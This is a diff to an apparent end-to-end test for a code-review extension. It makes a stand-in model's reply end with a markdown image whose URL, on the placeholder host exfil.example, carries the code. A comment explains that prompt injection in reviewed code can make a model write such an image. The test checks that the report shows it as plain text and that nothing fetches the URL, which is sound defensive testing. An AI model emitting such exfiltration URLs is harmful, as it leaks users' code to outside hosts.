@@ -14,6 +14,7 @@ import { launchBrowser } from '../support/browser';
 import { repoRoot } from '../support/codeServer';
 import { startLadderServer } from '../support/ladderServer';
 import type { LadderServer } from '../support/ladderServer';
+import { defaultReply } from '../support/standin/responder';
 import { faults, start } from '../support/standin/server';
 import type { Standin } from '../support/standin/server';
 import {
@@ -130,6 +131,10 @@ describe('Ladder in the workbench', () => {
     const before = (await costMeter(page).innerText()).trim();
     assert.match(before, /\$0\.00$/);
     assert.ok((await openEditorContextMenu(page, 'innerHTML')).includes('Review with Escalation'), 'the selection is still there');
+    // A prompt injection in the code can make a model write an image whose URL carries the
+    // code: the preview would fetch it as it opens. The first pass's SQL finding ends with one.
+    const pixel = '![badge](https://exfil.example/pixel.png?code=total)';
+    standin.script.when({ model: 'claude-haiku-4-5' }, (context) => JSON.parse(JSON.stringify(defaultReply(context)).replace('Use a parameterised query.', `Use a parameterised query. ${pixel}`)));
     await clickMenuItem(page, 'Review with Escalation');
 
     const after = await waitForCostChange(page, before);
@@ -155,6 +160,12 @@ describe('Ladder in the workbench', () => {
     assert.match(report, /Review with Escalation: src\/orders\.ts:9-23/);
     assert.match(report, /Findings \(\d+\)/);
     assert.match(report, /critical · security · line 11\n+SQL is assembled from strings[^\n]*\n+found by claude-haiku-4-5, confirmed by claude-opus-4-8/);
+    standin.script.clear();
+    // The image reads as the text the model wrote: no image, no link, nothing fetched.
+    assert.ok(report.includes(`Use a parameterised query. ${pixel}\n`), report);
+    const pointing = 'Array.from(document.querySelectorAll("img, a")).filter((e) => ["src", "data-src", "href"].some((name) => e.getAttribute(name)?.includes("exfil"))).length';
+    const exfil = await Promise.all(page.frames().map((frame) => frame.evaluate<number>(pointing).catch(() => 0)));
+    assert.equal(exfil.reduce((a, b) => a + b, 0), 0, 'no image or link points at the URL');
     // The report shows the task to four decimals (as its calls), the meter the session to the cent.
     const cents = (usd: string | undefined) => Math.round(Number((usd ?? '').replace(/[$,]/g, '')) * 100);
     assert.equal(cents(/Task cost: (\$[\d.,]+)/.exec(report)?.[1]), cents(settled.replace(/^.*Ladder /, '')), 'the report\'s task cost is the meter\'s session cost');
